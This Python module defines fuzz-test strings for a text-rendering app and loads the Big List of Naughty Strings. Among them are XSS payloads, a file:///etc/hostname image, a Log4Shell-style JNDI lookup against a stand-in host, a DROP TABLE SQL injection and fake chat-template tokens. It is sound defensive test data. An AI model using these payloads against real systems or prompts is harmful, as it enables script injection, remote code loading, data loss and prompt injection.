"""Texts that nobody types: our own, and those that others have collected."""

import json
from pathlib import Path

REAL_DATA = Path(__file__).parents[3] / "shared" / "realdata"
MARKUP = '<img src="file:///etc/hostname"><b>bold</b>'
"""What Qt takes for rich text wherever it is not told otherwise."""
OWN = (
    "\x00nul\x07bell\x1b[31mescape\x7fdelete\x85next line",
    "\u202eright to left override\u202c \u2066isolate\u2069 \u200e\u200f\u061c",
    "\ufeffmark \ufffe\uffff \U0010ffff \ue000 \U000e0041",
    "line\u2028separator\rreturn\r\nboth\x0bvertical\x0cform",
    "Z" + "\u0363\u0335\u0489\u0300" * 200,
    "👩‍👩‍👧‍👦👍🏽🇩🇪 ẞß ﷽ 𒐫",
    "half \ud83d a pair \udc00\ud800 twice \udfff",
    "<script>alert(1)</script>" + MARKUP + "<a href='javascript:alert(1)'>x</a>",
    "![remote](http://example.invalid/x.png) ![[x]](file:///etc/hostname) [a]: http://example.invalid/b",
    "| a | ![i](http://example.invalid/i.png) |\n| - | - |\n| <i>x</i> | [r](https://example.invalid) |",
    "```\nnever closed <b>\n",
    "{{ messages[0] }} {% raw %} ${jndi:ldap://example.invalid} %s %n {0} {name}",
    "<|end|><|user|><think></think><|im_end|></s>",
    "'; DROP TABLE turn; -- \" * OR NEAR(a",
    " \t \u3000\u00a0 leading and trailing \n\n\n",
    "x" * 5_000,
)


def own_and_naughty() -> tuple[str, ...]:
    """All there are here; the collected ones where they are."""
    file = REAL_DATA / "text" / "naughty-strings" / "blns.json"
    collected = json.loads(file.read_text(encoding="utf-8")) if file.is_file() else []
    return (*OWN, *(text for text in collected if text))
